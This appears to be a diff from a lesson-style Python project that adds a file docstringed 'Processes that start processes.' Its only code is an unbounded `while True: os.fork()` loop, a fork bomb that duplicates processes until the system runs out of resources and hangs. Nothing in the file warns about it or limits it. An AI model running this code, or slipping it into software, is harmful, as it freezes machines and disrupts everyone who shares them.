@@ -1,0 +1,7 @@
+"""Processes that start processes."""
+
+# %% after square
+import os
+
+while True:
+    os.fork()
